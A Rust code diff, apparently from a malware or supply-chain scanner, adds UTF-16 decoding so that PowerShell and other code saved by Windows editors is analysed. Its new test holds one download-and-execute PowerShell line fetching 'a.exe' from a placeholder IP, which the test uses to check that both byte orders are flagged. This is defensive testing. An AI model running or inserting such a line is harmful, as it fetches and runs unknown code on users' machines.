@@ -15,6 +15,7 @@ pub mod tokens;
 mod measure;
 
 use crate::facts::{Facts, Measures};
+use crate::flow::Outside;
 use crate::package::{Kind, Package};
 
 /// What kind of bytes a file is.
@@ -74,12 +75,19 @@ fn by_magic(bytes: &[u8]) -> Kind {
     }
 }
 
-/// The facts of a file.
+/// The facts of a file, by itself.
 pub fn facts(kind: Kind, path: &str, bytes: &[u8]) -> Facts {
+    facts_beside(kind, path, bytes, &Outside::default())
+}
+
+/// The facts of a file, with what other files give it.
+pub fn facts_beside(kind: Kind, path: &str, bytes: &[u8], outside: &Outside) -> Facts {
+    let plain = if kind.is_code() { from_utf16(bytes) } else { None };
+    let bytes = plain.as_deref().map_or(bytes, str::as_bytes);
     let mut facts = match kind {
-        Kind::Python => python::facts(path, bytes),
-        Kind::JavaScript => javascript::facts(path, bytes),
-        Kind::Rust => rust::facts(path, bytes),
+        Kind::Python => python::facts(path, bytes, outside),
+        Kind::JavaScript => javascript::facts(path, bytes, outside),
+        Kind::Rust => rust::facts(path, bytes, outside),
         Kind::Shell => return shell::of_file(bytes),
         Kind::Bytecode => return bytecode::facts(bytes),
         Kind::Native => return native::facts(bytes),
@@ -88,6 +96,20 @@ pub fn facts(kind: Kind, path: &str, bytes: &[u8]) -> Facts {
     };
     shell::look_within(&mut facts);
     facts
+}
+
+/// Code in UTF-16, by its byte order mark: PowerShell and editors of Windows write it, and whoever reads UTF-8 sees
+/// nothing in it. Places in it are those of the plain text.
+fn from_utf16(bytes: &[u8]) -> Option<String> {
+    const LONGEST: usize = 32 << 20;
+    let unit: fn([u8; 2]) -> u16 = match bytes.get(..2)? {
+        [0xFF, 0xFE] => u16::from_le_bytes,
+        [0xFE, 0xFF] => u16::from_be_bytes,
+        _ => return None,
+    };
+    let pairs = bytes.get(2..)?.chunks_exact(2).take(LONGEST);
+    let units = pairs.filter_map(|pair| Some(unit([*pair.first()?, *pair.get(1)?])));
+    Some(char::decode_utf16(units).map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER)).collect())
 }
 
 /// What the bytes of a file say without being parsed: how it looks, and that it was not read.
@@ -109,4 +131,25 @@ pub fn manifests(package: &mut Package) {
         _ => {}
     }
     shell::hooks(package);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts::Sink;
+
+    #[test]
+    fn code_in_utf16_is_read_either_way_round() {
+        let text = "Invoke-WebRequest http://192.0.2.1/a.exe -OutFile a.exe; Start-Process a.exe\r\n";
+        let little: Vec<u8> =
+            [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
+        let big: Vec<u8> =
+            [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect();
+        let plain = facts(Kind::Shell, "a.ps1", text.as_bytes());
+        assert!(plain.flows.iter().any(|flow| flow.sink == Sink::Run), "{plain:?}");
+        for bytes in [&little, &big] {
+            assert_eq!(facts(Kind::Shell, "a.ps1", bytes).flows, plain.flows);
+            facts(Kind::Shell, "a.ps1", &bytes[..bytes.len() - 1]);
+        }
+    }
 }
